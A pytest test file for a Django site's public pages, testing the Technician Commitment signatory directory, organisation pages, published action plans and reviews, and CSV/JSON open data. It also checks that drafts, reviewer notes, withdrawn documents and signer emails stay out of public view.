"""The public pages: the signatory directory, an organisation's page, its published documents,
the accessibility statement and the open data. Nobody signs in; nothing unpublished shows."""

import csv
import io
import json
import re
from datetime import UTC, date, datetime

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from actionplans import services as plan_services
from actionplans.enums import PlanStatus, Status
from actionplans.models import ActionPlan
from assessments import services as assessment_services
from assessments.enums import AssessmentStatus, QuestionKind
from assessments.models import Question, SelfAssessment
from publications import services
from publications.enums import PublicationKind
from publications.models import Publication
from signatories.enums import Nation, OrganisationKind, OrganisationStatus, Role
from signatories.models import Organisation
from submissions.enums import SignOffState
from submissions.models import Section, SectionComment, SignOff, Snapshot, SnapshotFigure
from submissions.services import take_snapshot
from techcommit.charts import progress_bar
from tests.factories import OrganisationFactory
from tests.pdf_text import body_text

# A 1x1 transparent PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)

DRAFT_ACTION = "Open a technician careers hub in the library"
REVIEWER_NOTE = "Reviewers only: the headcount looks low against HESA returns."
WITHDRAWN_ACTION = "Withdrawn wording: appoint a technician champion"
SIGNER_EMAILS = ["lead.a@example.org", "sponsor.a@example.org", "leader.a@example.org"]
OGL = "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"


def fetch(client, url: str) -> tuple[int, str]:
    """The status and body of a page or a file, the file closed after reading."""
    response = client.get(url, follow=True)  # a ready PDF's address sends on to its version
    # A stream read to its end closes itself and its file.
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response.status_code, body.decode(
        "utf-8-sig", errors="replace"
    )  # a CSV starts with a BOM


def text_of(response) -> str:
    """The page's text, tags removed and white space collapsed."""
    html = response.content.decode()
    html = re.sub(r"<(script|style)\b.*?</\1>", " ", html, flags=re.S)
    blocks = r"</?(p|div|li|dt|dd|td|th|tr|h[1-6]|br|caption|figcaption|label|option|title)\b[^>]*>"
    html = re.sub(blocks, " ", html)
    return " ".join(re.sub(r"<[^>]+>", "", html).split())


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    """Figures and PDFs are written to a throwaway folder."""
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def aldermoor(org_a):
    Organisation.objects.filter(pk=org_a.pk).update(
        signed_on=date(2025, 12, 1),
        nation=Nation.ENGLAND,
        contact_name="Tess Hollis",
        contact_email="technicians@aldermoor.ac.uk",
        webpage="https://www.aldermoor.ac.uk/technician-commitment",
    )
    org_a.refresh_from_db()
    return org_a


@pytest.fixture
def plan(aldermoor, lead_of_org_a):
    """Aldermoor's approved 24-month plan in two phases, with four actions under two themes."""
    plan = plan_services.create_plan(
        aldermoor,
        by=lead_of_org_a,
        title="Aldermoor Technician Commitment Action Plan 2026–2028",
        starts_on=date(2026, 12, 1),
        horizon_months=24,
    )
    phase_1 = plan_services.add_phase(plan, "Phase 1", date(2026, 12, 1), date(2027, 11, 1))
    plan_services.add_phase(plan, "Phase 2", date(2027, 12, 1), date(2028, 11, 1))
    plan_services.add_owner_code(plan, "PS", "Project Sponsor")
    plan_services.add_owner_code(plan, "PL", "Project Lead")
    plan_services.add_owner_code(plan, "G", "Governance")
    visibility = plan.headings.get(theme__slug="visibility")
    recognition = plan.headings.get(theme__slug="recognition")
    plan_services.add_action(
        visibility,
        by=lead_of_org_a,
        title="Name technicians as authors on research outputs",
        led_by="PS/PL/G",
        success_criteria="Technicians named on 50 outputs a year",
        status=Status.GREEN,
        targets={phase_1.pk: date(2027, 3, 1)},
    )
    plan_services.add_action(
        visibility,
        by=lead_of_org_a,
        title="Celebrate technician achievements at an annual event",
        led_by="PL",
        status=Status.GREEN,
    )
    plan_services.add_action(
        visibility,
        by=lead_of_org_a,
        title="Count technicians in every department",
        led_by="G",
        status=Status.RED,
        comment="Waiting for the new HR system.",
    )
    plan_services.add_action(
        recognition,
        by=lead_of_org_a,
        title="Pay professional registration fees",
        led_by="PS",
        status=Status.COMPLETE,
    )
    ActionPlan.objects.filter(pk=plan.pk).update(status=PlanStatus.APPROVED)
    plan.refresh_from_db()
    return plan


@pytest.fixture
def published_plan(plan, lead_of_org_a):
    return services.publish_plan(plan, by=lead_of_org_a)


@pytest.fixture
def draft_plan(aldermoor, lead_of_org_a):
    """Next cycle's plan, still a draft: never public."""
    draft = plan_services.create_plan(aldermoor, by=lead_of_org_a, starts_on=date(2029, 1, 1))
    plan_services.add_action(
        draft.headings.get(theme__slug="visibility"), by=lead_of_org_a, title=DRAFT_ACTION
    )
    return draft


@pytest.fixture
def published_review(published_plan, plan, lead_of_org_a):
    review = plan_services.start_review(
        plan,
        by=lead_of_org_a,
        reviewed_on=date(2027, 6, 30),
        period_from=date(2026, 12, 1),
        period_to=date(2027, 5, 31),
    )
    review.summary = "Good progress on visibility."
    review.overall_status = Status.GREEN
    review.save(update_fields=["summary", "overall_status"])
    review = plan_services.finalise_review(review, by=lead_of_org_a)
    return services.publish_review(review, by=lead_of_org_a)


@pytest.fixture
def published_assessment(aldermoor, lead_of_org_a, sponsor_of_org_a, leader_of_org_a, reviewer):
    """Aldermoor's accepted first self-assessment, signed by its leader, with a figure and a
    reviewer's private note, published through the service."""
    assessment = assessment_services.start_assessment(
        aldermoor, by=lead_of_org_a, today=date(2026, 11, 25)
    )
    snapshot = take_snapshot(assessment, lead_of_org_a)
    Snapshot.objects.filter(pk=snapshot.pk).update(
        submitted_at=datetime(2026, 11, 30, 10, tzinfo=UTC)
    )
    SignOff.objects.create(
        snapshot=snapshot,
        role=Role.LEADER,
        title="Signatory – Leader of Institution",
        position=1,
        state=SignOffState.SIGNED,
        signer=leader_of_org_a,
        signed_name="Leo Arden",
        signed_job_title="Vice-Chancellor",
        signed_at=datetime(2026, 11, 28, 9, tzinfo=UTC),
        signed_hash=snapshot.content_hash,
    )
    figures = Question.objects.get(
        section__form_version=assessment.form_version, kind=QuestionKind.FIGURES
    )
    figure = SnapshotFigure(
        snapshot=snapshot,
        question_key=figures.key,
        position=1,
        extension="png",
        width=1,
        height=1,
        caption="Technicians by faculty, 2026",
        alt_text="Bar chart: most technicians work in the Faculty of Science.",
        sha256="0" * 64,
    )
    figure.image.save("figure-1.png", ContentFile(PNG), save=False)
    figure.save()
    SectionComment.objects.create(
        snapshot=snapshot,
        section=Section.objects.filter(form_version=assessment.form_version).first(),
        author=reviewer,
        text=REVIEWER_NOTE,
        for_organisation=False,
    )
    SelfAssessment.objects.filter(pk=assessment.pk).update(status=AssessmentStatus.ACCEPTED)
    assessment.refresh_from_db()
    return services.publish_self_assessment(assessment, by=lead_of_org_a)


@pytest.fixture
def withdrawn_plan(published_plan, plan, lead_of_org_a):
    """A later version of the plan, withdrawn: gone from public view."""
    content = {**published_plan.content}
    content["headings"] = [
        {**content["headings"][0], "actions": [{"title": WITHDRAWN_ACTION, "status": "red"}]}
    ]
    withdrawn = Publication.objects.create(
        organisation=plan.organisation,
        kind=PublicationKind.ACTION_PLAN,
        version=2,
        title="Withdrawn version of the plan",
        content=content,
        plan=plan,
    )
    return services.withdraw(withdrawn, by=lead_of_org_a, reason="Published by mistake.")


@pytest.fixture
def everything(published_plan, published_review, published_assessment, draft_plan, withdrawn_plan):
    """Everything published, with its PDF rendered as the publishing task would after commit."""
    from publications.pdf import store_pdf

    for publication in (published_plan, published_review, published_assessment):
        store_pdf(publication.pk)
    return {
        "plan": published_plan,
        "review": published_review,
        "assessment": published_assessment,
        "withdrawn": withdrawn_plan,
    }


def public_urls(everything, with_pdfs: bool = True) -> list[str]:
    slug = everything["plan"].organisation.slug
    figure = SnapshotFigure.objects.get(snapshot=everything["assessment"].snapshot)
    urls = [
        reverse("home"),
        reverse("publications:directory"),
        reverse("publications:organisation", kwargs={"slug": slug}),
        reverse("publications:accessibility"),
        reverse("publications:open_data"),
        reverse("publications:signatories_csv"),
        reverse("publications:signatories_json"),
    ]
    for key in ("plan", "review", "assessment"):
        urls.append(
            reverse("publications:document", kwargs={"slug": slug, "pk": everything[key].pk})
        )
    for name in ("plan_csv", "plan_json"):
        urls.append(
            reverse(f"publications:{name}", kwargs={"slug": slug, "pk": everything["plan"].pk})
        )
    if with_pdfs:
        for key in ("plan", "review", "assessment"):
            urls.append(
                reverse("publications:pdf", kwargs={"slug": slug, "pk": everything[key].pk})
            )
    urls.append(
        reverse(
            "publications:figure",
            kwargs={"slug": slug, "pk": everything["assessment"].pk, "figure_id": figure.pk},
        )
    )
    return urls


# --- Anyone may read; nothing unpublished is ever there ---------------------------------------


@pytest.mark.parametrize("persona", ["anonymous", "lead_of_org_b", "reviewer"])
def test_every_public_page_opens_for_anyone(client, everything, persona, request):
    if persona != "anonymous":
        client.force_login(request.getfixturevalue(persona))
    urls = public_urls(everything)
    if persona != "anonymous":
        urls.remove("/")  # the home page takes members to their own organisation
    statuses = {url: fetch(client, url)[0] for url in urls}
    assert statuses == dict.fromkeys(urls, 200)


def test_no_draft_reviewer_note_withdrawn_text_or_signer_email_on_any_public_page(
    client, everything
):
    # The snapshot holds the lead's e-mail in its header; the publication never stored it.
    assert "lead.a@example.org" in json.dumps(everything["assessment"].snapshot.content)
    assert "lead.a@example.org" not in json.dumps(everything["assessment"].content)
    # PDFs are compressed: their text is checked on its own below.
    for url in public_urls(everything, with_pdfs=False):
        _, body = fetch(client, url)
        for secret in [DRAFT_ACTION, REVIEWER_NOTE, WITHDRAWN_ACTION, *SIGNER_EMAILS]:
            assert secret not in body, f"{secret!r} is on {url}"


def withdrawn_urls(everything) -> dict[str, str]:
    slug = everything["plan"].organisation.slug
    pk = everything["withdrawn"].pk
    return {
        name: reverse(f"publications:{name}", kwargs={"slug": slug, "pk": pk})
        for name in ("document", "plan_csv", "plan_json", "pdf")
    }


def test_a_withdrawn_publication_is_not_found_at_any_of_its_addresses(client, everything):
    statuses = {
        name: client.get(url).status_code for name, url in withdrawn_urls(everything).items()
    }
    assert statuses == {"document": 404, "plan_csv": 404, "plan_json": 404, "pdf": 404}


def test_a_published_figure_is_cached_briefly_and_answers_304_by_its_digest(client, everything):
    assessment = everything["assessment"]
    figure = SnapshotFigure.objects.get(snapshot=assessment.snapshot)
    url = reverse(
        "publications:figure",
        kwargs={"slug": "aldermoor", "pk": assessment.pk, "figure_id": figure.pk},
    )
    response = client.get(url)
    assert response["ETag"] == f'"{figure.sha256}"'
    assert response["Cache-Control"] == "public, max-age=60"
    assert b"".join(response.streaming_content)[:4] == b"\x89PNG"  # read to its end: closed
    again = client.get(url, HTTP_IF_NONE_MATCH=response["ETag"])
    assert again.status_code == 304
    assert again.content == b""
    other = client.get(url, HTTP_IF_NONE_MATCH='"other"')
    assert b"".join(other.streaming_content)[:4] == b"\x89PNG"


def test_a_withdrawn_self_assessments_figure_is_not_found(client, everything, lead_of_org_a):
    assessment = everything["assessment"]
    figure = SnapshotFigure.objects.get(snapshot=assessment.snapshot)
    url = reverse(
        "publications:figure",
        kwargs={"slug": "aldermoor", "pk": assessment.pk, "figure_id": figure.pk},
    )
    assert fetch(client, url)[0] == 200
    services.withdraw(assessment, by=lead_of_org_a, reason="Wrong revision.")
    assert client.get(url).status_code == 404
    document = reverse("publications:document", kwargs={"slug": "aldermoor", "pk": assessment.pk})
    assert client.get(document).status_code == 404


def test_every_document_address_is_not_found_under_another_organisations_slug(
    client, everything, org_b
):
    figure = SnapshotFigure.objects.get(snapshot=everything["assessment"].snapshot)
    urls = [
        reverse("publications:document", kwargs={"slug": org_b.slug, "pk": everything[key].pk})
        for key in ("plan", "review", "assessment")
    ] + [
        reverse(f"publications:{name}", kwargs={"slug": org_b.slug, "pk": everything["plan"].pk})
        for name in ("plan_csv", "plan_json", "pdf")
    ]
    urls.append(
        reverse(
            "publications:figure",
            kwargs={"slug": org_b.slug, "pk": everything["assessment"].pk, "figure_id": figure.pk},
        )
    )
    assert {url: client.get(url).status_code for url in urls} == dict.fromkeys(urls, 404)


def test_unknown_organisations_and_documents_are_not_found(client, everything):
    plan = everything["plan"]
    missing = Publication.objects.order_by("-pk").first().pk + 1
    urls = [
        reverse("publications:organisation", kwargs={"slug": "nowhere"}),
        reverse("publications:document", kwargs={"slug": "aldermoor", "pk": missing}),
        # A plan's open data exists only for plans.
        reverse(
            "publications:plan_csv", kwargs={"slug": "aldermoor", "pk": everything["review"].pk}
        ),
        reverse("publications:plan_json", kwargs={"slug": "aldermoor", "pk": missing}),
        # A figure only of the published snapshot, only on a self-assessment.
        reverse(
            "publications:figure",
            kwargs={"slug": "aldermoor", "pk": plan.pk, "figure_id": 1},
        ),
    ]
    assert {url: client.get(url).status_code for url in urls} == dict.fromkeys(urls, 404)


def test_a_figure_of_another_snapshot_is_not_served(client, everything, aldermoor, lead_of_org_a):
    assessment = everything["assessment"]
    other = take_snapshot(assessment.snapshot.assessment, lead_of_org_a)
    stray = SnapshotFigure(
        snapshot=other,
        question_key="figures",
        position=1,
        extension="png",
        width=1,
        height=1,
        caption="Not published",
        alt_text="Not published",
        sha256="1" * 64,
    )
    stray.image.save("stray.png", ContentFile(PNG), save=False)
    stray.save()
    url = reverse(
        "publications:figure",
        kwargs={"slug": "aldermoor", "pk": assessment.pk, "figure_id": stray.pk},
    )
    assert client.get(url).status_code == 404


def test_public_pages_only_answer_get(client, everything):
    urls = [url for url in public_urls(everything, with_pdfs=False) if url != "/"]
    assert {url: client.post(url).status_code for url in urls} == dict.fromkeys(urls, 405)


# --- The organisation's page ------------------------------------------------------------------


def test_the_organisation_page_shows_status_contact_plan_summary_review_and_archive(
    client, everything
):
    response = client.get(reverse("publications:organisation", kwargs={"slug": "aldermoor"}))
    text = text_of(response)
    html = response.content.decode()

    assert response.status_code == 200
    assert "Status Signatory" in text
    assert "Date signed 1 December 2025" in text
    assert "Point of contact Tess Hollis, technicians@aldermoor.ac.uk" in text
    assert 'href="https://www.aldermoor.ac.uk/technician-commitment"' in html
    assert "Action plan: Aldermoor Technician Commitment Action Plan 2026–2028" in text
    # Grouped by theme, each status as a word, owner codes spelled out.
    assert (
        "Name technicians as authors on research outputs Project Sponsor, Project Lead, "
        "Governance Mar 2027 Technicians named on 50 outputs a year ● On track" in text
    )
    assert "Count technicians in every department Governance" in text
    assert "■ Delayed Waiting for the new HR system." in text
    # The summary first: where it stands, how far through its plan, progress by theme.
    progress = progress_bar(
        "Plan period", date(2026, 12, 1), date(2028, 11, 30), timezone.localdate()
    )
    assert text.index("Summary Kind University, England Status Signatory") < text.index(
        "Action plan: "
    )
    assert "Last assessed Not yet assessed" in text
    assert f"Current plan Dec 2026 to Nov 2028 Plan period: {progress.words}" in text
    assert f'<desc id="plan-progress-desc">{progress.description}</desc>' in html
    assert "Latest progress review 30 June 2027, overall ● On track" in text
    assert "On this page Progress by theme Action plan Progress review" in text
    assert '<h2 id="progress-title">Progress by theme</h2>' in html
    # Each theme's counts from the latest review, with its word and shape, and drawn as a bar.
    assert "From the latest progress review, as of 30 June 2027." in text
    assert "Visibility 3 actions: 1 ■ Delayed, 2 ● On track." in text
    assert "Recognition 1 action: 1 ✔ Completed." in text
    assert "Visibility: ■ Delayed 1 (33%), ● On track 2 (67%); 3 actions in all." in text
    assert text.index("Progress by theme From the latest") < text.index("Action plan: ")
    # The latest progress review.
    review = everything["review"]
    assert f"Latest progress review {review.title}" in text
    assert "Covers 1 December 2026 to 31 May 2027; reviewed on 30 June 2027 by Lena Aldous." in text
    assert "Overall status: ● On track" in text
    # The archive, by cycle: the plan and its review, then the self-assessment (it goes with no
    # plan here, so it is a cycle of its own); not the withdrawn plan.
    archive = [[p.pk for p in cycle["documents"]] for cycle in response.context["cycles"]]
    assert archive == [[everything["plan"].pk, review.pk], [everything["assessment"].pk]]
    assert "Withdrawn version of the plan" not in text


def test_a_new_version_of_the_plan_keeps_the_old_one_in_its_cycle_of_the_archive(
    client, published_plan, plan, lead_of_org_a
):
    newer = services.publish_plan(plan, by=lead_of_org_a)
    response = client.get(reverse("publications:organisation", kwargs={"slug": "aldermoor"}))
    assert response.context["plan"] == newer
    [cycle] = response.context["cycles"]
    assert [p.pk for p in cycle["documents"]] == [newer.pk, published_plan.pk]
    assert f'href="/directory/aldermoor/documents/{published_plan.pk}/"' in (
        response.content.decode()
    )


def test_the_archive_puts_a_self_assessment_in_its_plans_cycle(
    client, published_plan, published_review, published_assessment, plan
):
    ActionPlan.objects.filter(pk=plan.pk).update(
        assessment=published_assessment.snapshot.assessment
    )
    response = client.get(reverse("publications:organisation", kwargs={"slug": "aldermoor"}))
    [cycle] = response.context["cycles"]
    assert (cycle["plan"], cycle["original"]) == (plan, None)
    assert [p.pk for p in cycle["documents"]] == [
        published_assessment.pk,
        published_plan.pk,
        published_review.pk,
    ]
    assert "Dec 2026 to Nov 2028</h3>" in response.content.decode()


def test_a_lapsed_organisation_still_has_its_page_with_its_status(client, org_b):
    Organisation.objects.filter(pk=org_b.pk).update(status=OrganisationStatus.LAPSED)
    response = client.get(reverse("publications:organisation", kwargs={"slug": "brackenfield"}))
    text = text_of(response)
    assert "Status Lapsed" in text
    assert "No action plan has been published yet." in text
    assert "Point of contact Not given" in text


# --- Documents ----------------------------------------------------------------------------


def test_the_plan_page_shows_the_actions_by_theme_with_status_words(client, everything):
    plan = everything["plan"]
    response = client.get(plan.get_absolute_url())
    text = text_of(response)
    assert response.context["publication"] == plan
    assert "Action plan of University of Aldermoor, version 1, published" in text
    headings = [h["name"] for h in response.context["plan_content"]["headings"]]
    assert headings == ["Visibility", "Recognition", "Career Development", "Sustainability"]
    assert "Pay professional registration fees Project Sponsor" in text
    assert "✔ Completed" in text
    assert (
        "Key: who leads each action Code Meaning PS Project Sponsor PL Project Lead G Governance"
        in text
    )


def test_the_review_page_shows_each_entry_with_its_status_word(client, everything):
    response = client.get(everything["review"].get_absolute_url())
    text = text_of(response)
    assert "Count technicians in every department ■ Delayed Waiting for the new HR system." in text
    assert "Pay professional registration fees ✔ Completed" in text
    assert "Good progress on visibility." in text


def test_the_self_assessment_page_shows_answers_figures_and_signatures_not_emails(
    client, everything
):
    assessment = everything["assessment"]
    figure = SnapshotFigure.objects.get(snapshot=assessment.snapshot)
    response = client.get(assessment.get_absolute_url())
    text = text_of(response)
    html = response.content.decode()
    assert "Submitted on 30 November 2026 (revision 1)." in text
    assert "Signed: Leo Arden, Vice-Chancellor (Signatory – Leader of Institution)" in text
    assert "Date: 28 November 2026" in text
    assert f'src="/directory/aldermoor/documents/{assessment.pk}/figures/{figure.pk}/"' in html
    assert 'alt="Bar chart: most technicians work in the Faculty of Science."' in html
    assert "lead.a@example.org" not in html
    figure_response = client.get(
        reverse(
            "publications:figure",
            kwargs={"slug": "aldermoor", "pk": assessment.pk, "figure_id": figure.pk},
        )
    )
    assert figure_response["Content-Type"] == "image/png"
    assert b"".join(figure_response.streaming_content) == PNG


# --- The directory ------------------------------------------------------------------------


@pytest.fixture
def signatories(aldermoor, org_b):
    """Four organisations of different kinds, nations, statuses and dates."""
    Organisation.objects.filter(pk=org_b.pk).update(
        kind=OrganisationKind.RESEARCH_INSTITUTE,
        nation=Nation.SCOTLAND,
        signed_on=date(2020, 1, 15),
    )
    OrganisationFactory(
        name="Caerlow University",
        short_name="Caerlow",
        slug="caerlow",
        nation=Nation.WALES,
        status=OrganisationStatus.LAPSED,
        signed_on=date(2018, 5, 1),
    )
    OrganisationFactory(
        name="Dunmore College",
        short_name="Dunmore",
        slug="dunmore",
        kind=OrganisationKind.OTHER,
        nation=Nation.NORTHERN_IRELAND,
        status=OrganisationStatus.WITHDRAWN,
        signed_on=date(2022, 2, 2),
    )


def listed(client, **query):
    response = client.get(reverse("publications:directory"), query)
    names = [org.name for org in response.context["page_obj"].object_list]
    count = re.search(r'id="results-count">([^<]+)<', response.content.decode()).group(1)
    return count, names


def test_the_directory_lists_every_signatory_by_name_with_a_count(client, signatories):
    assert listed(client) == (
        "4 signatories",
        [
            "Brackenfield Institute",
            "Caerlow University",
            "Dunmore College",
            "University of Aldermoor",
        ],
    )


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"q": "brack"}, ("1 signatory", ["Brackenfield Institute"])),
        ({"q": "Dunmore"}, ("1 signatory", ["Dunmore College"])),
        ({"q": "university"}, ("2 signatories", ["Caerlow University", "University of Aldermoor"])),
        ({"kind": "research_institute"}, ("1 signatory", ["Brackenfield Institute"])),
        ({"nation": "wales"}, ("1 signatory", ["Caerlow University"])),
        ({"status": "lapsed"}, ("1 signatory", ["Caerlow University"])),
        (
            {"status": "signatory", "kind": "university"},
            ("1 signatory", ["University of Aldermoor"]),
        ),
        ({"q": "nowhere"}, ("0 signatories", [])),
        # A value that is not a choice is ignored, not an error.
        (
            {"nation": "atlantis"},
            (
                "4 signatories",
                [
                    "Brackenfield Institute",
                    "Caerlow University",
                    "Dunmore College",
                    "University of Aldermoor",
                ],
            ),
        ),  # noqa: E501
    ],
)
def test_the_directory_searches_and_filters(client, signatories, query, expected):
    assert listed(client, **query) == expected


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("name", ["Brackenfield", "Caerlow", "Dunmore", "Aldermoor"]),
        ("newest", ["Aldermoor", "Dunmore", "Brackenfield", "Caerlow"]),
        ("oldest", ["Caerlow", "Brackenfield", "Dunmore", "Aldermoor"]),
    ],
)
def test_the_directory_sorts_by_name_or_date_signed(client, signatories, sort, expected):
    response = client.get(reverse("publications:directory"), {"sort": sort})
    assert [o.short_name for o in response.context["page_obj"].object_list] == expected


def test_the_directory_links_each_current_plan_never_a_withdrawn_one(client, everything, org_b):
    response = client.get(reverse("publications:directory"))
    rows = {o.slug: o.current_plan_id for o in response.context["page_obj"].object_list}
    assert rows == {"aldermoor": everything["plan"].pk, "brackenfield": None}
    html = response.content.decode()
    assert f'href="/directory/aldermoor/documents/{everything["plan"].pk}/"' in html


def test_the_directory_form_is_labelled_and_keeps_the_choices(client, signatories):
    html = client.get(
        reverse("publications:directory"), {"q": "brack", "nation": "scotland", "sort": "newest"}
    ).content.decode()
    for field, label in [
        ("q", "Name, short name or initials"),
        ("kind", "Kind"),
        ("nation", "Nation"),
        ("status", "Status"),
        ("sort", "Sort by"),
    ]:
        assert f'<label class="form-label" for="id_{field}">{label}</label>' in html
    assert 'value="brack"' in html
    assert '<option value="scotland" selected>Scotland</option>' in html
    assert '<option value="newest" selected>Date signed (most recent first)</option>' in html


def bulk_organisations(count: int) -> None:
    Organisation.objects.bulk_create(
        Organisation(
            name=f"Bulk University {n:04}",
            slug=f"bulk-{n:04}",
            kind=OrganisationKind.UNIVERSITY,
            nation=Nation.ENGLAND,
            signed_on=date(2019, 1, 1),
        )
        for n in range(count)
    )


@pytest.mark.parametrize("count", [10, 1000])
def test_the_directory_runs_in_constant_queries(
    client, published_plan, count, django_assert_max_num_queries
):
    bulk_organisations(count)
    # The organisations, and the last public change from the shared cache.
    with django_assert_max_num_queries(3):
        response = client.get(reverse("publications:directory"), {"sort": "newest"})
    assert response.context["count"] == count + 1
    assert len(response.context["page_obj"].object_list) == min(count + 1, 50)
    # The next visitor gets the page as rendered: only the last public change is read.
    with django_assert_max_num_queries(1):
        again = Client().get(reverse("publications:directory"), {"sort": "newest"})
    assert again.content == response.content


@pytest.mark.parametrize("count", [10, 1000])
def test_the_open_data_directory_runs_in_constant_queries(
    client, published_plan, count, django_assert_max_num_queries
):
    bulk_organisations(count)
    # The organisations, and for their due dates the form versions and cohort deadlines; and
    # the last public change, from the shared cache.
    with django_assert_max_num_queries(4):
        response = client.get(reverse("publications:signatories_json"))
    assert response.json()["count"] == count + 1


def test_the_directory_pages_by_fifty_and_keeps_the_search(client, db):
    bulk_organisations(60)
    response = client.get(reverse("publications:directory"), {"q": "bulk", "page": 2})
    assert [o.slug for o in response.context["page_obj"].object_list] == [
        f"bulk-{n:04}" for n in range(50, 60)
    ]
    html = response.content.decode()
    assert "60 signatories" in html
    assert 'href="?q=bulk&amp;page=1"' in html


# --- Open data ----------------------------------------------------------------------------


def test_the_signatories_csv_has_stable_columns(client, everything, org_b):
    Organisation.objects.filter(pk=org_b.pk).update(last_assessed_on=date(2022, 3, 31))
    response = client.get(reverse("publications:signatories_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="signatories.csv"'
    assert response["Link"] == f'<{OGL}>; rel="license"'
    # A byte-order mark first, so that a spreadsheet reads the file as UTF-8.
    assert response.content.startswith(b"\xef\xbb\xbfname,short_name,")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    plan_pk = everything["plan"].pk
    assert rows == [
        [
            "name",
            "short_name",
            "slug",
            "kind",
            "nation",
            "status",
            "signed_on",
            "webpage",
            "contact_name",
            "contact_email",
            "page_url",
            "plan_url",
            "last_assessed_on",
            "next_due_on",
        ],
        [
            "Brackenfield Institute",
            "Brackenfield",
            "brackenfield",
            "university",
            "england",
            "signatory",
            "2020-01-15",
            "",
            "",
            "",
            "http://testserver/directory/brackenfield/",
            "",
            "2022-03-31",
            "2025-03-31",
        ],
        [
            "University of Aldermoor",
            "Aldermoor",
            "aldermoor",
            "university",
            "england",
            "signatory",
            "2025-12-01",
            "https://www.aldermoor.ac.uk/technician-commitment",
            "Tess Hollis",
            "technicians@aldermoor.ac.uk",
            "http://testserver/directory/aldermoor/",
            f"http://testserver/directory/aldermoor/documents/{plan_pk}/plan.json",
            "",
            "2026-12-01",
        ],
    ]


def test_the_signatories_json_matches_the_csv_and_takes_the_filters(client, everything, org_b):
    Organisation.objects.filter(pk=org_b.pk).update(last_assessed_on=date(2022, 3, 31))
    response = client.get(reverse("publications:signatories_json"), {"q": "brackenfield"})
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response.json() == {
        "count": 1,
        "signatories": [
            {
                "name": "Brackenfield Institute",
                "short_name": "Brackenfield",
                "slug": "brackenfield",
                "kind": "university",
                "nation": "england",
                "status": "signatory",
                "signed_on": "2020-01-15",
                "webpage": "",
                "contact_name": "",
                "contact_email": "",
                "page_url": "http://testserver/directory/brackenfield/",
                "plan_url": "",
                "last_assessed_on": "2022-03-31",
                "next_due_on": "2025-03-31",
            }
        ],
        "licence": {"name": "Open Government Licence v3.0", "url": OGL},
    }


PLAN_ROWS = [
    {
        "heading": "Visibility",
        "theme": "visibility",
        "action": "Name technicians as authors on research outputs",
        "description": "",
        "led_by": "PS/PL/G",
        "led_by_names": "Project Sponsor; Project Lead; Governance",
        "targets": "Phase 1: 2027-03",
        "focus_years": "",
        "target_on": "",
        "success_criteria": "Technicians named on 50 outputs a year",
        "status": "green",
        "status_label": "On track",
        "comment": "",
    },
    {
        "heading": "Visibility",
        "theme": "visibility",
        "action": "Celebrate technician achievements at an annual event",
        "description": "",
        "led_by": "PL",
        "led_by_names": "Project Lead",
        "targets": "",
        "focus_years": "",
        "target_on": "",
        "success_criteria": "",
        "status": "green",
        "status_label": "On track",
        "comment": "",
    },
    {
        "heading": "Visibility",
        "theme": "visibility",
        "action": "Count technicians in every department",
        "description": "",
        "led_by": "G",
        "led_by_names": "Governance",
        "targets": "",
        "focus_years": "",
        "target_on": "",
        "success_criteria": "",
        "status": "red",
        "status_label": "Delayed",
        "comment": "Waiting for the new HR system.",
    },
    {
        "heading": "Recognition",
        "theme": "recognition",
        "action": "Pay professional registration fees",
        "description": "",
        "led_by": "PS",
        "led_by_names": "Project Sponsor",
        "targets": "",
        "focus_years": "",
        "target_on": "",
        "success_criteria": "",
        "status": "complete",
        "status_label": "Completed",
        "comment": "",
    },
]


def test_the_plan_csv_has_one_row_per_action_with_stable_columns(client, published_plan):
    response = client.get(
        reverse("publications:plan_csv", kwargs={"slug": "aldermoor", "pk": published_plan.pk})
    )
    assert response["Content-Disposition"] == (
        'attachment; filename="aldermoor-action-plan-v1.csv"'
    )
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert reader.fieldnames == list(PLAN_ROWS[0])
    assert list(reader) == PLAN_ROWS


def test_the_plan_json_has_the_plan_and_its_actions(client, published_plan):
    response = client.get(
        reverse("publications:plan_json", kwargs={"slug": "aldermoor", "pk": published_plan.pk})
    )
    data = response.json()
    assert data == {
        "organisation": "University of Aldermoor",
        "organisation_slug": "aldermoor",
        "title": "Aldermoor Technician Commitment Action Plan 2026–2028",
        "version": 1,
        "published_on": published_plan.published_at.date().isoformat(),
        "page_url": f"http://testserver/directory/aldermoor/documents/{published_plan.pk}/",
        "period": published_plan.content["period"],
        "phases": published_plan.content["phases"],
        "key": [
            {"code": "PS", "title": "Project Sponsor"},
            {"code": "PL", "title": "Project Lead"},
            {"code": "G", "title": "Governance"},
        ],
        "status_wording": [
            {
                "status": "not_started",
                "label": "Not started",
                "description": "Work yet to be started.",
            },  # noqa: E501
            {
                "status": "red",
                "label": "Delayed",
                "description": "Behind schedule or blocked; explain why and what happens next.",
            },  # noqa: E501
            {
                "status": "amber",
                "label": "In progress",
                "description": "Work initiated but not completed.",
            },  # noqa: E501
            {"status": "green", "label": "On track", "description": "Progressing as planned."},
            {
                "status": "complete",
                "label": "Completed",
                "description": "Work substantially completed.",
            },  # noqa: E501
        ],
        "actions": PLAN_ROWS,
        "licence": {"name": "Open Government Licence v3.0", "url": OGL},
    }
    assert response["Link"] == f'<{OGL}>; rel="license"'


def test_the_open_data_page_documents_every_column(client, db):
    text = text_of(client.get(reverse("publications:open_data")))
    from publications.views.public import PLAN_COLUMNS, REVIEW_COLUMNS, SIGNATORY_COLUMNS

    columns = SIGNATORY_COLUMNS + PLAN_COLUMNS + REVIEW_COLUMNS
    missing = [c for c in columns if f" {c} " not in f" {text} "]
    assert missing == []
    assert "published under the Open Government Licence v3.0" in text


# --- Accessibility statement and links ----------------------------------------------------


